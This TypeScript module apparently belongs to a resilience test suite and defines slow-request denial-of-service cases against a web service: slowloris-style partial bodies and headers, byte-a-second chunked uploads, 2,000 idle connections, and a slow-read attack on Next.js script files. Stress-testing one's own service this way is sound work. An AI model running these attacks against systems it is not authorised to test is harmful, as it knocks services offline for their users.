import type { Socket } from 'node:net'
import { type Attack, dial, head, often } from './attack'

const drip = (text: string) => (socket: Socket) => {
  const timer = setInterval(() => socket.write(text), 1000)
  socket.once('close', () => clearInterval(timer))
}
const post = (headers: Record<string, string>) => head('POST /api/v1/auth/token', headers)

/** Requests that never become whole. */
export const slow: Attack[] = [
  {
    ...{ line: 'C2', name: '260 bodies of which one byte comes' },
    run: (target) =>
      often(target, 260, () => dial(target, `${post({ 'content-length': '100' })}x`)),
  },
  {
    ...{ line: 'C2', name: '260 chunked bodies, a byte a second' },
    run: (target) => {
      const bytes = post({ 'transfer-encoding': 'chunked' })
      return often(target, 260, () => dial(target, bytes, drip('1\r\nx\r\n')))
    },
  },
  {
    ...{ line: 'C2', name: '500 headers, a byte a second' },
    run: (target) =>
      often(target, 500, () => dial(target, 'GET / HTTP/1.1\r\nHost: a\r\nX-Long: ', drip('x'))),
  },
  {
    ...{ line: 'C2', name: '2000 connections kept and not used' },
    run: (target) => often(target, 2000, () => dial(target, head('GET /api/health/live')), 1000),
  },
]

/** Asks for large files and does not read them. */
export const unread: Attack = {
  ...{ line: 'C2', name: '270 large files that are not read' },
  run: async (target) => {
    const html = await (await fetch(`${target.url}/signin`)).text()
    const scripts = [...html.matchAll(/src="(\/_next\/static\/[^"]+\.js)"/g)].map(
      ([, path]) => path,
    )
    const bytes = scripts
      .map((path) => head(`GET ${path}`))
      .join('')
      .repeat(20)
    await often(target, 270, () =>
      dial(target, bytes, (socket) => void socket.once('data', () => socket.pause())),
    )
  },
}
